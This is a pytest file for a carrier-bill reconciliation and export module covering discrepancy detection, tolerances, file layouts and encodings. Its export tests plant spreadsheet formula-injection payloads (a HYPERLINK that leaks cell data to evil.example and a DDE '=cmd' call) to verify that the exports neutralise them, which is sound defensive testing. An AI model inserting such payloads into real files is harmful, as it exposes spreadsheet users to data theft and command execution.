"""Carrier bill parsing, three-way reconciliation and exports (adapters/settlement)."""

from __future__ import annotations

import codecs
import csv
import io
import json
from fractions import Fraction

import numpy as np
import openpyxl
import pandas as pd
import pytest

from adapters.settlement import BillRejected, parse_bill, reconcile
from adapters.settlement.checks import (
    Billed,
    Quoted,
    classify_lines,
    fuel_check,
    surcharge_check,
    weight_check,
)
from adapters.settlement.exports import RED, dispute_file, to_csv, to_xlsx

GENERIC_HEADER = (
    "waybill,carrier,service,billed_weight_kg,base,fuel,surcharge_remote_area,"
    "surcharge_additional_handling,currency,bill_line_ref"
)


def shipment(
    waybill: str,
    *,
    kg: float = 2.0,
    base: int = 2000,
    fuel_pct: float = 20.0,
    surcharges: dict[str, int] | None = None,
    status: str = "dispatched",
    currency: str = "EUR",
) -> dict:
    surcharges = surcharges or {}
    fuel = round((base + surcharges.get("remote_area", 0)) * fuel_pct / 100)
    return {
        "waybill": waybill,
        "carrier": "dhl_express",
        "service": "express_worldwide",
        "order_id": f"O-{waybill}",
        "shipment_id": f"S-{waybill}",
        "status": status,
        "chargeable_weight_kg": kg,
        "quoted_base_cents": base,
        "quoted_fuel_cents": fuel,
        "fuel_pct": fuel_pct,
        "quoted_surcharges": json.dumps(surcharges),
        "quoted_total_cents": base + fuel + sum(surcharges.values()),
        "currency": currency,
    }


def generic_bill(rows: list[str]) -> bytes:
    return ("\n".join([GENERIC_HEADER, *rows]) + "\n").encode()


def row(
    waybill: str,
    kg: str = "2.0",
    base: str = "20.00",
    fuel: str = "4.00",
    remote: str = "",
    handling: str = "",
    currency: str = "EUR",
    service: str = "EXPRESS",
) -> str:
    return f"{waybill},dhl_express,{service},{kg},{base},{fuel},{remote},{handling},{currency},R-{waybill}"


def run(rows: list[str], shipments: list[dict], **kw):
    bill = parse_bill(generic_bill(rows), "bill.csv", "generic")
    return reconcile(bill, pd.DataFrame(shipments), **kw)


def kinds_by_line(disc: pd.DataFrame) -> dict[int, list[str]]:
    out: dict[int, list[str]] = {}
    for line, kind in zip(disc["line"], disc["kind"], strict=True):
        out.setdefault(int(line), []).append(kind)
    return out


# --------------------------------------------------------------------------------------------
# Every kind planted


@pytest.fixture
def planted():
    shipments = [
        shipment("W01"),
        shipment("W02"),  # overweight
        shipment("W03"),  # base rate
        shipment("W04"),  # surcharge not in contract
        shipment("W05"),  # fuel %
        shipment("W06"),  # currency
        shipment("W07", status="voided"),
        shipment("W08"),  # twice on this bill
        shipment("W09"),  # billed before
        shipment("W10", surcharges={"remote_area": 1500}),  # fine: fuel on base + remote area
        shipment("W11", surcharges={"remote_area": 1500}),  # remote area amount differs
    ]
    rows = [
        row("W01"),  # line 2
        row("W02", kg="3.0", base="26.00", fuel="5.20"),  # line 3
        row("W03", base="20.50", fuel="4.10"),  # line 4
        row("W04", handling="5.00"),  # line 5
        row("W05", fuel="5.00"),  # line 6
        row("W06", currency="USD"),  # line 7
        row("W07"),  # line 8
        row("W08"),  # line 9
        row("W08"),  # line 10
        row("W09"),  # line 11
        row("W99"),  # line 12
        row("W10", remote="15.00", fuel="7.00"),  # line 13
        row("W11", remote="18.00", fuel="7.60"),  # line 14
    ]
    return run(rows, shipments, previously_billed={"W09"})


def test_every_kind_found_on_its_line(planted):
    lines, disc, totals = planted
    assert kinds_by_line(disc) == {
        3: ["overweight"],
        4: ["base_rate_mismatch"],
        5: ["surcharge_not_in_contract"],
        6: ["wrong_fuel_pct"],
        7: ["currency_mismatch"],
        8: ["voided_label_billed"],
        10: ["duplicate_billing"],
        11: ["duplicate_billing"],
        12: ["unknown_waybill"],
        14: ["surcharge_amount_mismatch"],
    }
    assert set(totals["discrepancies"]) >= {
        "unknown_waybill",
        "duplicate_billing",
        "overweight",
        "base_rate_mismatch",
        "surcharge_not_in_contract",
        "wrong_fuel_pct",
        "currency_mismatch",
        "voided_label_billed",
    }
    assert all(v >= 1 for v in totals["discrepancies"].values())


def test_planted_amounts(planted):
    _lines, disc, _totals = planted
    by = {(int(r.line), r.kind): r for r in disc.itertuples()}
    ow = by[(3, "overweight")]
    assert (ow.expected, ow.billed, ow.difference_cents) == ("2.000 kg", "3.000 kg", 600)
    base = by[(4, "base_rate_mismatch")]
    assert (base.expected_cents, base.billed_cents, base.difference_cents) == (2000, 2050, 50)
    sur = by[(5, "surcharge_not_in_contract")]
    assert (sur.surcharge, sur.billed_cents, sur.difference_cents) == (
        "additional_handling",
        500,
        500,
    )
    fuel = by[(6, "wrong_fuel_pct")]
    assert (fuel.expected, fuel.billed) == ("20.00%", "25.00%")
    assert (fuel.expected_cents, fuel.billed_cents, fuel.difference_cents) == (400, 500, 100)
    cur = by[(7, "currency_mismatch")]
    assert (cur.expected, cur.billed, cur.currency) == ("EUR", "USD", "USD")
    assert pd.isna(cur.difference_cents)
    assert by[(8, "voided_label_billed")].difference_cents == 2400
    dup = by[(10, "duplicate_billing")]
    assert dup.difference_cents == 2400 and "line 9" in dup.explanation
    assert "earlier bill" in by[(11, "duplicate_billing")].explanation
    unknown = by[(12, "unknown_waybill")]
    assert (unknown.waybill, unknown.billed_cents, unknown.difference_cents) == ("W99", 2400, 2400)
    assert pd.isna(unknown.expected_cents) and unknown.order_id == ""
    rem = by[(14, "surcharge_amount_mismatch")]
    assert (rem.surcharge, rem.expected_cents, rem.billed_cents) == ("remote_area", 1500, 1800)
    assert by[(3, "overweight")].order_id == "O-W02"


def test_planted_lines_and_totals(planted):
    lines, _disc, totals = planted
    assert len(lines) == 13 and lines["line"].tolist() == list(range(2, 15))
    flagged = dict(zip(lines["line"], lines["has_discrepancy"], strict=True))
    assert not flagged[2] and not flagged[9] and not flagged[13] and flagged[12]
    w01 = lines[lines["line"] == 2].iloc[0]
    assert (w01.expected_cents, w01.difference_cents, w01.order_id) == (2400, 0, "O-W01")
    assert lines.loc[lines["line"] == 12, "expected_cents"].item() == 0
    # mixed currencies (one USD line): per currency only
    assert totals["currency"] is None and totals["billed_total"] is None
    eur, usd = totals["by_currency"]["EUR"], totals["by_currency"]["USD"]
    assert usd == {
        "lines": 1,
        "billed_total": 2400,
        "expected_total": 0,
        "overcharge": 0,
        "undercharge": 0,
    }
    assert eur["lines"] == 12
    # EUR: overcharges = W02 +720, W03 +60, W04 +500, W05 +100, W07 +2400, W08 +2400,
    # W09 +2400, W99 +2400, W11 +300 +60 fuel
    assert eur["overcharge"] == 720 + 60 + 500 + 100 + 4 * 2400 + 360
    assert eur["undercharge"] == 0
    # expected: W06 (quoted in EUR, billed in USD) still counts on the EUR side
    assert eur["expected_total"] == 2400 * 7 + 2 * (2000 + 700 + 1500)
    assert totals["lines"] == 13 and totals["matched"] == 12


# --------------------------------------------------------------------------------------------
# Tolerance edges: exactly at a tolerance is fine, one gram / one cent beyond is flagged


@pytest.mark.parametrize(
    ("chargeable", "billed", "flagged"),
    [
        (2.0, "2.5", False),  # 0.5 kg over: at the absolute tolerance (5% = 0.1 kg)
        (2.0, "2.501", True),
        (20.0, "21.0", False),  # 1 kg over: at 5% (the larger tolerance decides)
        (20.0, "21.001", True),
        (20.0, "19.0", False),  # lighter is never overweight
    ],
)
def test_weight_tolerance_edges(chargeable, billed, flagged):
    _lines, disc, _ = run([row("W1", kg=billed)], [shipment("W1", kg=chargeable)])
    assert ("overweight" in set(disc["kind"])) is flagged


@pytest.mark.parametrize(
    ("base", "fuel", "flagged"),
    [("20.01", "4.00", False), ("19.99", "4.00", False), ("20.02", "4.00", True)],
)
def test_base_tolerance_edges(base, fuel, flagged):
    _lines, disc, _ = run([row("W1", base=base, fuel=fuel)], [shipment("W1")])
    assert ("base_rate_mismatch" in set(disc["kind"])) is flagged
    assert "wrong_fuel_pct" not in set(disc["kind"])


@pytest.mark.parametrize(
    ("fuel", "flagged"),
    [("19.75", False), ("19.85", False), ("19.86", True), ("19.65", False), ("19.64", True)],
)
def test_fuel_pct_edges(fuel, flagged):
    # base 100.00 at 19.75 %: 19.75; 0.1 percentage point = 0.10
    _lines, disc, _ = run(
        [row("W1", base="100.00", fuel=fuel)], [shipment("W1", base=10000, fuel_pct=19.75)]
    )
    assert list(disc["kind"]) == (["wrong_fuel_pct"] if flagged else [])


def test_weights_beyond_tolerance_skip_the_base_check():
    # billed lighter than chargeable beyond tolerance: a lower base is no contract mismatch
    _lines, disc, totals = run([row("W1", kg="1.0", base="15.00", fuel="3.00")], [shipment("W1")])
    assert disc.empty
    assert totals["undercharge"] == 600 and totals["overcharge"] == 0


# --------------------------------------------------------------------------------------------
# Another currency


def test_bill_in_another_currency():
    shipments = [shipment("G1", currency="GBP"), shipment("G2", currency="GBP", base=3000)]
    lines, disc, totals = run(
        [row("G1", currency="GBP"), row("G2", currency="gbp", base="29.00", fuel="5.80")],
        shipments,
    )
    assert totals["currency"] == "GBP"
    assert totals["billed_total"] == 2400 + 3480
    assert totals["expected_total"] == 2400 + 3600
    assert (totals["overcharge"], totals["undercharge"]) == (0, 120)
    assert list(disc["kind"]) == ["base_rate_mismatch"]
    assert disc["difference_cents"].tolist() == [-100]
    assert lines["currency"].tolist() == ["GBP", "GBP"]


# --------------------------------------------------------------------------------------------
# Malformed files


def test_malformed_file_lists_bad_rows_by_line():
    data = generic_bill(
        [
            row("W1"),  # 2: fine
            row("", base="20.00"),  # 3: no waybill
            row("W3", base="twenty"),  # 4
            row("W4", currency="EURO"),  # 5
            "",  # 6: blank, skipped
            row("W7", base="1.234", kg="heavy"),  # 7: two errors
        ]
    )
    with pytest.raises(BillRejected) as exc:
        parse_bill(data, "bad.csv", "generic")
    got = [(e["line"], e["field"]) for e in exc.value.errors]
    assert got == [
        (3, "waybill"),
        (4, "base"),
        (5, "currency"),
        (7, "billed_weight_kg"),
        (7, "base"),
    ]
    assert exc.value.errors[3]["msg"].startswith("not a weight")
    assert exc.value.errors[4]["msg"] == "more than 2 decimal places"


def test_missing_required_columns_are_line_1():
    with pytest.raises(BillRejected) as exc:
        parse_bill(b"Tracking Number,Service\n1Z1,EXP\n", "ups.csv", "ups")
    assert {e["line"] for e in exc.value.errors} == {1}
    assert {e["field"] for e in exc.value.errors} == {"billed_weight_kg", "base", "currency"}


def test_limits_and_quoted_line_breaks():
    with pytest.raises(BillRejected, match="larger than"):
        parse_bill(generic_bill([row("W1")]), "b.csv", "generic", max_bytes=50)
    with pytest.raises(BillRejected, match="at most 2"):
        parse_bill(generic_bill([row("W1")] * 3), "b.csv", "generic", max_rows=2)
    # a quoted line break: line numbers still follow the file
    data = generic_bill(['W1,dhl_express,"two\nlines",2,20.00,4.00,,,EUR,', row("", fuel="x")])
    with pytest.raises(BillRejected) as exc:
        parse_bill(data, "b.csv", "generic")
    assert {e["line"] for e in exc.value.errors} == {4}
    with pytest.raises(BillRejected):
        parse_bill(b"\x81\x8d\xff\xfe\x00", "b.csv", "generic")


# --------------------------------------------------------------------------------------------
# Layouts and encodings

DHL = (
    "Invoice Number,Line Number,Waybill Number,Shipment Date,Product,Weight (kg),Weight Charge,"
    "Fuel Surcharge,Remote Area,Oversize Piece,Currency,Total\n"
    "INV1,1,1234567890,2025-06-02,EXPRESS WORLDWIDE,2.5,31.20,6.16,,,EUR,37.36\n"
    "INV1,2,2234567891,2025-06-02,EXPRESS WORLDWIDE,12,80.00,18.76,13.80,,EUR,112.56\n"
)
UPS = (
    "Invoice Number,Invoice Line Number,Tracking Number,Service,Billed Weight (kg),"
    "Transportation Charges,Fuel Surcharge,Extended Area Surcharge,Additional Handling,"
    "Residential Surcharge,Currency Code\n"
    "U1,1,1Z 999 AA1 01 2345 6784,WW Saver,3.0,41.10,6.78,,,,USD\n"
    "U1,2,1Z999AA10123456785,WW Saver,1.5,22.00,3.63,4.25,16.50,,USD\n"
)
FEDEX = (
    "Invoice Number,Invoice Line Number,Express or Ground Tracking ID,Service Type,"
    "Rated Weight Amount (kg),Transportation Charge Amount,Fuel Surcharge Amount,"
    "Out of Delivery Area Surcharge,Oversize Charge,Currency\n"
    "F1,7,123456789012,International Priority,5.0,55.00,9.90,,,USD\n"
)


@pytest.mark.parametrize(
    ("layout", "text", "first"),
    [
        ("dhl", DHL, ("1234567890", "dhl_express", 2500, 3120, 616, 3736)),
        ("ups", UPS, ("1Z999AA10123456784", "ups", 3000, 4110, 678, 4788)),
        ("fedex", FEDEX, ("123456789012", "fedex", 5000, 5500, 990, 6490)),
        (
            "generic",
            GENERIC_HEADER + "\n" + row("W1", handling="1.50") + "\n",
            ("W1", "dhl_express", 2000, 2000, 400, 2550),
        ),
    ],
)
def test_each_layout_parses_its_sample(layout, text, first):
    bill = parse_bill(text.encode(), f"{layout}.csv", layout)
    f = bill.frame
    r = f.iloc[0]
    assert (
        r.waybill,
        r.carrier,
        r.billed_weight_g,
        r.base_cents,
        r.fuel_cents,
        r.total_cents,
    ) == first
    assert f["line"].iloc[0] == 2
    assert str(f["total_cents"].dtype) == "int64"
    if layout == "dhl":
        assert f["surcharge_remote_area_cents"].tolist() == [0, 1380]
        assert f["total_cents"].tolist() == [3736, 11256]
        assert f["bill_line_ref"].tolist() == ["1", "2"]
    if layout == "ups":
        assert f["surcharge_additional_handling_cents"].tolist() == [0, 1650]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_encodings_and_semicolons(encoding):
    text = (
        "waybill;service;billed_weight_kg;base;fuel;currency\n"
        "W1;Päckchen Größe M €;1,5;12,50;2,50;EUR\n"
    )
    bill = parse_bill(text.encode(encoding), "b.csv", "generic", carrier="dhl_parcel_de")
    r = bill.frame.iloc[0]
    assert (r.service, r.billed_weight_g, r.base_cents, r.carrier) == (
        "Päckchen Größe M €",
        1500,
        1250,
        "dhl_parcel_de",
    )
    assert bill.encoding == {"utf-16": "utf-16"}.get(encoding, encoding)
    if encoding == "utf-16":
        assert text.encode(encoding).startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))


def test_xlsx_bill_first_sheet():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(
        ["Waybill Number", "Product", "Weight (kg)", "Weight Charge", "Fuel Surcharge", "Currency"]
    )
    ws.append([1234567890, "EXPRESS", 2.5, 31.2, 6.16, "EUR"])
    ws.append([None, None, None, None, None, None])
    ws.append(["2234567891", "EXPRESS", 3, 0.1 + 0.2, None, "EUR"])
    ws.append(["3234567892", "EXPRESS", 3, 10.005, 1, "EUR"])
    wb.create_sheet("Other").append(["ignored"])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(BillRejected) as exc:
        parse_bill(buf.getvalue(), "dhl.xlsx", "dhl")
    assert exc.value.errors == [
        {"line": 5, "field": "Weight Charge", "msg": "more than 2 decimal places"}
    ]
    ws.delete_rows(5)
    buf = io.BytesIO()
    wb.save(buf)
    bill = parse_bill(buf.getvalue(), "dhl.xlsx", "dhl")
    f = bill.frame
    assert bill.file_type == "xlsx"
    assert f["line"].tolist() == [2, 4]
    assert f["waybill"].tolist() == ["1234567890", "2234567891"]
    assert f["base_cents"].tolist() == [3120, 30]
    assert f["fuel_cents"].tolist() == [616, 0]


# --------------------------------------------------------------------------------------------
# Exports


@pytest.fixture(scope="module")
def injected():
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        row("W1"),
        row("W2", base="19.00", fuel="3.80", service='"' + evil.replace('"', '""') + '"'),
        row("W3", service="@SUM(1+1)"),
    ]
    return run(rows, [shipment("W1"), shipment("W2"), shipment("W3")]), evil


def test_xlsx_neutralises_formulas_and_fills_discrepancy_rows_red(injected):
    (lines, disc, totals), evil = injected
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(lines, disc, totals)))
    assert wb.sheetnames == ["Lines", "Discrepancies", "Summary"]
    ws = wb["Lines"]
    header = [c.value for c in ws[1]]
    service, diff = header.index("service"), header.index("difference")
    w2 = ws[3]  # line 3 of the bill is row 3 of the sheet (header + W1)
    assert w2[service].value == "'" + evil
    assert w2[service].data_type == "s"
    assert ws[4][service].value == "'@SUM(1+1)"
    assert w2[diff].value == -1.2  # base -1.00, fuel -0.20: a negative number stays a number
    assert w2[0].fill.fill_type == "solid" and w2[0].fill.fgColor.rgb == RED
    assert ws[2][0].fill.fill_type is None  # W1 is clean
    assert all(c.fill.fgColor.rgb == RED for c in w2)
    d = wb["Discrepancies"]
    dh = [c.value for c in d[1]]
    assert d[2][dh.index("kind")].value == "base_rate_mismatch"
    assert d[2][dh.index("difference")].value == -1
    summary = {r[0]: r[1] for r in wb["Summary"].iter_rows(values_only=True) if r and r[0]}
    assert summary["lines"] == 3 and summary["undercharge"] == 1.2


def test_csv_neutralises_formulas(injected):
    (lines, disc, totals), evil = injected
    text = to_csv(lines, disc, totals).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[1]["service"] == "'" + evil
    assert rows[2]["service"] == "'@SUM(1+1)"
    assert rows[1]["difference"] == "-1.20"  # number, not neutralised
    assert rows[1]["discrepancy_kinds"] == "base_rate_mismatch"
    drows = list(
        csv.DictReader(
            io.StringIO(to_csv(lines, disc, totals, "discrepancies").decode("utf-8-sig"))
        )
    )
    assert drows[0]["kind"] == "base_rate_mismatch" and drows[0]["difference"] == "-1.00"
    summary = to_csv(lines, disc, totals, "summary").decode("utf-8-sig")
    assert "undercharge,1.20" in summary


def test_dispute_file_per_carrier(planted):
    _lines, disc, _ = planted
    d = disc.assign(
        resolution=["disputed" if k != "currency_mismatch" else "accepted" for k in disc["kind"]],
        reason="=cmd|' /C calc'!A0",
    )
    rows = list(csv.DictReader(io.StringIO(dispute_file(d, "DHL_EXPRESS").decode("utf-8-sig"))))
    assert len(rows) == len(disc) - 1
    assert {r["carrier"] for r in rows} == {"dhl_express"}
    assert rows[0]["reason"].startswith("'=")
    first = rows[0]
    assert (first["bill_line"], first["kind"], first["disputed_amount"]) == (
        "3",
        "overweight",
        "6.00",
    )
    assert dispute_file(d, "ups").decode("utf-8-sig").count("\n") == 1  # header only


# --------------------------------------------------------------------------------------------
# Each check on its own (adapters/settlement/checks.py), on arrays in bill-line order


def billed_lines(waybills, *, base=None, fuel=None, grams=None, currency="EUR", **surcharges):
    n = len(waybills)
    return Billed(
        key=pd.Series(waybills, dtype=object),
        total=np.zeros(n, dtype=np.int64),
        base=np.array(base if base is not None else [2000] * n, dtype=np.int64),
        fuel=np.array(fuel if fuel is not None else [400] * n, dtype=np.int64),
        grams=np.array(grams if grams is not None else [2000] * n, dtype=np.int64),
        currency=np.array([currency] * n, dtype=object),
        surcharges={k: np.array(v, dtype=np.int64) for k, v in surcharges.items()},
    )


def quoted_lines(matched, *, status=None, kg=None, fuel_pct=None, currency="EUR"):
    n = len(matched)
    return Quoted(
        idx=np.arange(n),
        matched=np.array(matched, dtype=bool),
        status=np.array(status or ["dispatched"] * n, dtype=object),
        currency=np.array([currency] * n, dtype=object),
        base=np.full(n, 2000, dtype=np.int64),
        fuel=np.full(n, 400, dtype=np.int64),
        total=np.full(n, 2400, dtype=np.int64),
        chargeable_kg=np.array(kg if kg is not None else [2.0] * n, dtype=np.float64),
        fuel_pct=np.array(fuel_pct if fuel_pct is not None else [20.0] * n, dtype=np.float64),
        order_id=np.array([""] * n, dtype=object),
        shipment_id=np.array([""] * n, dtype=object),
    )


def test_lines_not_owed_unknown_voided_and_duplicates_are_not_checked():
    waybills = ["A", "B", "A", "C", "D", "E"]
    labelled = {"A": "dispatched", "B": "labelled", "C": "voided", "E": "dispatched"}
    earlier_bill = ["E "]  # waybills match without spaces
    classes = classify_lines(
        billed_lines(waybills),
        quoted_lines(
            [w in labelled for w in waybills],
            status=[labelled.get(w, "") for w in waybills],
        ),
        earlier_bill,
    )
    seen: set[str] = set()
    for i, w in enumerate(waybills):
        repeated = w in seen
        seen.add(w)
        assert classes.unknown[i] == (w not in labelled)
        assert classes.voided[i] == (labelled.get(w) == "voided")
        assert classes.duplicate[i] == (repeated or w == earlier_bill[0].strip())
        not_owed = classes.unknown[i] or classes.voided[i] or classes.duplicate[i]
        assert classes.checkable[i] == (not not_owed)


@pytest.mark.parametrize("chargeable_kg", [0.5, 2.0, 10.0, 20.0, 31.5])
def test_overweight_is_beyond_both_tolerances(chargeable_kg):
    tolerance_kg, tolerance_pct = 0.5, 0.05
    chargeable_g = round(chargeable_kg * 1000)
    billed_g = [chargeable_g + d for d in range(-1500, 1600, 50)]
    n = len(billed_g)
    check = weight_check(
        np.array(billed_g, dtype=np.int64),
        quoted_lines([True] * n, kg=[chargeable_kg] * n),
        np.ones(n, dtype=bool),
        tolerance_kg,
        tolerance_pct,
    )
    for i, g in enumerate(billed_g):
        over = g - chargeable_g
        limit = max(Fraction(str(tolerance_kg)) * 1000, Fraction(str(tolerance_pct)) * chargeable_g)
        assert check.overweight[i] == (over > limit), (chargeable_g, g)
        assert check.agree[i] == (abs(over) <= limit)


def test_fuel_is_checked_on_the_base_and_the_surcharges_it_applies_to():
    base, remote, oversize, handling = 10_000, 1_500, 700, 1_650
    fuel_pct = 19.75
    fuel_base = base + remote + oversize  # handling is not a transport charge
    right = (fuel_base * 1975 + 5_000) // 10_000  # cents, half up
    billed = billed_lines(
        ["A", "B", "C"],
        base=[base] * 3,
        fuel=[right, right + 1, right + 25],  # exact; a cent of rounding; 25 cents, over 0.1 point
        remote_area=[remote] * 3,
        oversize_long=[oversize] * 3,  # a named variant of oversize
        additional_handling=[handling] * 3,
    )
    check = fuel_check(
        billed, quoted_lines([True] * 3, fuel_pct=[fuel_pct] * 3), np.ones(3, dtype=bool), 0.1,
        ("remote_area", "oversize"),
    )  # fmt: skip
    assert check.base.tolist() == [fuel_base] * 3
    assert check.expected.tolist() == [right] * 3
    tolerance = Fraction(1, 1000) * fuel_base + Fraction(1, 2)  # 0.1 point of the base + 1/2 cent
    expected_wrong = [
        abs(f - Fraction(fuel_pct) / 100 * fuel_base) > tolerance for f in billed.fuel
    ]
    assert check.wrong.tolist() == expected_wrong == [False, False, True]


def test_a_surcharge_the_quote_does_not_name_is_not_in_the_contract():
    quoted_sets = [{"remote_area": 1500}, {"remote_area": 1500}, {}]
    billed = billed_lines(
        ["A", "B", "C"], remote_area=[1500, 1600, 1500], additional_handling=[0, 1650, 0]
    )
    check = surcharge_check(
        billed,
        quoted_lines([True] * 3),
        pd.Series([json.dumps(q) for q in quoted_sets]),
        np.ones(3, dtype=bool),
        np.ones(3, dtype=bool),
        1,
    )
    for s, cents in billed.surcharges.items():
        for i, quoted in enumerate(quoted_sets):
            assert check.not_in_contract[s][i] == (cents[i] != 0 and s not in quoted)
            wrong, q_amt = check.amount[s]
            assert q_amt[i] == quoted.get(s, 0)
            assert wrong[i] == (s in quoted and abs(cents[i] - quoted[s]) > 1)
